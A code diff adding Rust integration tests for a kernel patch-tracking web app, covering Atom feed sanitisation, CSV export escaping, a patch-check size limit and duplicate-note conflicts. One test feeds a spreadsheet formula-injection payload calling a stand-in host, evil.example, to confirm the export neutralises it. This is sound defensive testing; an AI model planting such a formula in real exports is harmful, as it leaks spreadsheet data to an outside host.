@@ -1,7 +1,10 @@
-//! Reports, feeds, exports, the patch check and security headers, through the real router.
+//! Reports, feeds, exports, the patch check, notes and security headers, through the real
+//! router.
 
 use axum::body::Body;
 use axum::http::{header, Request, StatusCode};
+use treewide_core::model::{EventSource, Status};
+use treewide_core::{transition, users};
 use treewide_testing::spawn_app;
 
 #[tokio::test]
@@ -181,4 +184,173 @@ async fn the_openapi_document_and_the_vendored_docs_are_served() {
     assert!(html.contains("swagger-ui-bundle.js"));
     let s = app.get("/api/docs/swagger-ui-bundle.js").await.status;
     assert_eq!(s, StatusCode::OK, "the UI is vendored, not fetched");
+}
+
+#[tokio::test]
+async fn a_feed_with_control_characters_in_what_people_typed_is_still_xml() {
+    let app = spawn_app().await;
+    let list = app
+        .get("/api/v1/sites?campaign=iov-iter-pin&file=drivers/nvme/target/io-cmd-file.c")
+        .await
+        .json();
+    let id = treewide_core::model::SiteId(list["items"][0]["id"].as_i64().unwrap());
+    transition::change_status(
+        &app.db,
+        transition::StatusRequest {
+            site: id,
+            to: Status::NeedsPin,
+            by: transition::Authority::Signoff,
+            actor: "bot\u{1b}[31m <bot@example.org>",
+            source: EventSource::Web,
+            reason: "pasted from a terminal: \u{1}\u{8}\u{b}\u{c}\u{ffff} <b>&amp;",
+            expected_version: None,
+        },
+    )
+    .await
+    .unwrap();
+    for uri in [
+        "/c/iov-iter-pin/feed.atom",
+        "/c/iov-iter-pin/s/nvm-express-target-driver/feed.atom",
+    ] {
+        let xml = app.get(uri).await.body;
+        let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{uri}: {e}\n{xml}"));
+        let content = doc
+            .descendants()
+            .find(|n| n.has_tag_name("content"))
+            .and_then(|n| n.text())
+            .unwrap();
+        assert!(
+            content.contains(
+                "pasted from a terminal: \u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd} <b>&amp;"
+            ),
+            "{content}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn csv_cells_that_would_be_formulas_are_quoted() {
+    let app = spawn_app().await;
+    let list = app
+        .get("/api/v1/sites?campaign=iov-iter-pin&file=drivers/nvme/target/io-cmd-file.c")
+        .await
+        .json();
+    let id = list["items"][0]["id"].as_i64().unwrap();
+    transition::change_status(
+        &app.db,
+        transition::StatusRequest {
+            site: treewide_core::model::SiteId(id),
+            to: Status::NeedsPin,
+            by: transition::Authority::Signoff,
+            actor: "someone@example.org",
+            source: EventSource::Web,
+            reason: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            expected_version: None,
+        },
+    )
+    .await
+    .unwrap();
+    let csv = app.get("/c/iov-iter-pin/export.csv").await.body;
+    let row = csv
+        .lines()
+        .find(|l| l.starts_with(&format!("{id},")))
+        .unwrap();
+    assert!(
+        row.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#),
+        "{row}"
+    );
+    assert!(!csv.contains(",=") && !csv.contains(",\"="), "{csv}");
+}
+
+#[tokio::test]
+async fn the_patch_check_survives_a_comment_at_the_argument_limit() {
+    let app = spawn_app().await;
+    // `iov_iter_bvec(` and about 8,190 bytes of argument, then `/*` at the 8,192-byte limit.
+    for pad in [8189, 8190, 8191] {
+        let line = format!("+\tiov_iter_bvec({}/* x */);", "a".repeat(pad));
+        let diff = format!("--- a/fs/x.c\n+++ b/fs/x.c\n@@ -1 +1,2 @@\n int a;\n{line}\n");
+        let req = Request::post("/api/v1/check")
+            .header(header::CONTENT_TYPE, "text/x-diff")
+            .body(Body::from(diff))
+            .unwrap();
+        let r = app.send(req).await;
+        assert_eq!(r.status, StatusCode::OK, "pad {pad}: {}", r.body);
+        assert!(r.json()["findings"].is_array());
+    }
+}
+
+#[tokio::test]
+async fn the_same_note_twice_is_a_conflict_not_a_failure() {
+    let app = spawn_app().await;
+    let (user, _) = users::invite(&app.db, "bot@example.org", "", false)
+        .await
+        .unwrap();
+    let (_, token) = users::create_token(&app.db, user.id, "bot", &[users::Scope::NotesWrite])
+        .await
+        .unwrap();
+    let list = app
+        .get("/api/v1/sites?campaign=iov-iter-pin&file=drivers/nvme/target/io-cmd-file.c")
+        .await
+        .json();
+    let id = list["items"][0]["id"].as_i64().unwrap();
+    let post = || {
+        Request::post(format!("/api/v1/sites/{id}/notes"))
+            .header(header::AUTHORIZATION, format!("Bearer {token}"))
+            .header(header::CONTENT_TYPE, "application/json")
+            .body(Body::from(
+                r#"{"text": "checked: sgl pages are anonymous"}"#,
+            ))
+            .unwrap()
+    };
+    assert_eq!(app.send(post()).await.status, StatusCode::CREATED);
+    let again = app.send(post()).await;
+    assert_eq!(again.status, StatusCode::CONFLICT, "{}", again.body);
+    assert_eq!(again.content_type(), "application/problem+json");
+    assert_eq!(
+        again.json()["detail"],
+        "you have already written this note on this site"
+    );
+
+    // The same from the site page's form: a page saying so.
+    users::accept_invite(
+        &app.db,
+        &users::invite(&app.db, "hch@lst.de", "", false)
+            .await
+            .unwrap()
+            .1,
+        "correct horse 1",
+    )
+    .await
+    .unwrap();
+    let mut b = app.browser();
+    let csrf = b.get("/login").await.csrf();
+    let r = b
+        .form(
+            "/login",
+            &[
+                ("csrf", &csrf),
+                ("email", "hch@lst.de"),
+                ("password", "correct horse 1"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER);
+    let site = format!("/c/iov-iter-pin/site/{id}");
+    let csrf = b.get(&site).await.csrf();
+    let note = [
+        ("csrf", csrf.as_str()),
+        ("text", "looks fine"),
+        ("back", site.as_str()),
+    ];
+    let r = b.form(&format!("{site}/notes"), &note).await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
+    let r = b.form(&format!("{site}/notes"), &note).await;
+    assert_eq!(r.status, StatusCode::CONFLICT);
+    assert!(r.content_type().starts_with("text/html"));
+    assert!(
+        r.body
+            .contains("you have already written this note on this site"),
+        "{}",
+        r.body
+    );
 }
